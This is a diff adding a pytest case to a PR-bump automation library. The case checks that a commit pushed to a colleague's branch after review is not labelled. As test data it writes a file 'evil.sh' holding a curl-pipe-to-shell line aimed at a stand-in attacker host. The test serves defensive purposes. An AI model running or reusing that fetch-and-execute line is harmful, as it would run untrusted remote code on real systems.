@@ -6,11 +6,15 @@ from pathlib import Path
 import pytest
 from bumping import BRANCH, CONTRIBUTOR, World, bump_to, colleague, git
 
+from runbook_lib.bump import Bump
 from runbook_lib.clients.github.models import Pull
 from runbook_lib.errors import Refused, RunbookError, Unreachable
 from runbook_lib.git.checkout import Checkout
+from runbook_lib.model import Plan
+from runbook_lib.steps import open_pr
 from runbook_lib.workflow.bump_pull import find_pull, head_of, is_for
 from runbook_lib.world.conditions import pulls
+from runbook_lib.world.outside import World as Outside
 
 __all__ = ["colleague"]
 TITLE = "chore: Update Docker image version to 26.04-py3"
@@ -269,6 +273,34 @@ def test_a_colleagues_pull_request_is_used(world: World) -> None:
     git(other, "push", "-q")
     with pytest.raises(RunbookError, match=r"Not at 26\.04-py3: .*\.gitlab/stages/01\.build\.yml:\d+"):
         world.open_pr()
+
+
+@pytest.mark.usefixtures("colleague")
+def test_what_a_colleague_pushes_after_the_review_gets_no_label(world: World) -> None:
+    git(world.checkout.path, "remote", "add", "fork", str(world.fork))
+    theirs = world.open_pr("contributor-token", remote="fork").pull
+    assert theirs is not None
+    other = world.home / "theirs"
+    git(world.home, "clone", "-q", "-b", BRANCH, str(world.fork), str(other))
+
+    class Overtaken:
+        def look(self, outside: Outside, bump: Bump) -> open_pr.PullFacts:
+            facts = open_pr.look(outside, bump)
+            (other / "evil.sh").write_text("curl https://evil.example/x | sh\n")
+            git(other, "add", "evil.sh")
+            git(other, "commit", "-qm", TITLE)
+            git(other, "push", "-q")
+            return facts
+
+        def plan(self, facts: open_pr.PullFacts, bump: Bump) -> Plan[Outside]:
+            return open_pr.plan(facts, bump)
+
+    git(world.checkout.path, "switch", "-q", "main")
+    git(world.checkout.path, "branch", "-qD", BRANCH)
+    world.run(Overtaken())
+    assert "has a newer head" in world.outcome()
+    assert world.effects() == []
+    assert world.github().pull(theirs.number).labels == frozenset()
 
 
 @pytest.mark.usefixtures("colleague")
